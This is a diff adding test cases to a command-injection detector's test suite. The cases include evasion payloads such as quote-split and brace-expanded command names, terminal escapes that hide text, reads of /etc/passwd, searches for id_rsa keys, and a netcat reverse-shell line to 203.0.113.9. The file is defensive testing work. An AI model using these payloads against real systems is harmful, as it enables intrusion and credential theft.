@@ -220,6 +220,68 @@ describe('command injection', () => {
     passes(['rock & roll -live', 'a; b - c', 'foo | bar', ';frob']);
   });
 
+  it('sees a lone program whose name is taken apart by quotes', () => {
+    sees('hidden_command', ["w'h'oami", 'un"am"e', "who''ami", "if'c'onfig"]);
+    passes(["rock 'n' roll", "O'Neil's", "l''s", 'a"b"c', "it's 'so' nice", 'the "top"ics']);
+  });
+
+  it('sees a name of a program that a shell puts together from a list', () => {
+    sees('hidden_command', ['c{a,urio}t /etc/hosts', '{l,-a}s', ';un{ame,ix} -a', '$(wh{o,}ami)', 'a | ta{i,bl}l']);
+    sees('glob_path', ['{/?in/?d,}', ';{/b*n/u?ame,-a}']);
+    passes(['src/{a,b}.ts', '{id,name}', 'f{x,y}', 'set {a,b}', '{"a":1,"b":2}', '/items/{id},{name}', 'c {a,b}t']);
+  });
+
+  it('sees expansions that only a shell has', () => {
+    sees('hidden_command', ['${x#y}', '${PATH##*/}', '${HOME%/*}', '${!SHELL}', '$((7))', '/${x#{}}etc']);
+    sees('lone_expansion', ['~+', '~-', '~+1']);
+    sees('lone_expansion', ['~%2B'], 'query');
+    passes(['${i % 2}', '${name}', '${a ? b : c}', '~5', '~', '~-~', '~ 10', '~+ 5 km', '#{x}', '$(#id)', '${!done}']);
+  });
+
+  it('sees escape sequences that hide text from who looks at a terminal', () => {
+    sees('terminal_escape', ['x\u001b[2Jy', '\\033[1A\\033[K ok', '\\x1b[2K', '\\e[6n', '\u001b]0;x\u0007\u001b[5A']);
+    passes(['\u001b[31mred\u001b[0m', '\\033[1;32mgreen', 'a[2J]', '\\[a-z]', '[\\e]']);
+  });
+
+  it('sees a command behind the end of a line that is written as an escape', () => {
+    sees('separated_command', [';\\nuname', '&&\\n. ls -la']);
+    sees('network_shell', [';\\n.shell nc 203.0.113.9 4444 -e sh']);
+    passes([';\\nand more', 'one;\\ntwo']);
+  });
+
+  it('sees a command whose input stands before it, and one behind a command or a name without a value', () => {
+    sees('separated_command', [';</etc/hosts cat', 'uname; frob /etc/passwd', 'host=;find /srv -name id_rsa']);
+    passes(['a=;b=;c=', 'Lunch; find a table', 'x </etc> y']);
+  });
+
+  it('sees conditions of Windows without signs', () => {
+    sees('windows_control', ['IF EXIST report.txt CMD', 'if not defined x echo y']);
+    passes([
+      'if exist, then what',
+      'If not defined otherwise',
+      'if exist a way to do it',
+      'If existing customers call',
+    ]);
+  });
+
+  it('sees an editor that runs a command', () => {
+    sees('interpreter_code', [';ex notes +q \\!uname', '| vim x :!id']);
+    passes(['more !important']);
+  });
+
+  it('passes what ordinary applications put behind separators', () => {
+    passes([
+      'https://shop.example/find?sort=date&time=now&id=7&host=a#top',
+      'text/html; charset=utf-8',
+      'id=7; path=/; expires=Mon, 03 Jul 2023 11:35:55 GMT',
+      'Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/1 (find me; or not)',
+      "It's a wall & more (10 x 20 cm)",
+      'Home | Find | Help',
+      'Brand;v="8", "Who";v="1"',
+      'a&b="c"&d={"id":1}|{"time":2}',
+    ]);
+  });
+
   it('passes documents with commands in them', () => {
     passes([
       '# tar\n\n> Archives.\n\n- Create one:\n\n`tar -cf {{a.tar}} {{x}}`\n',
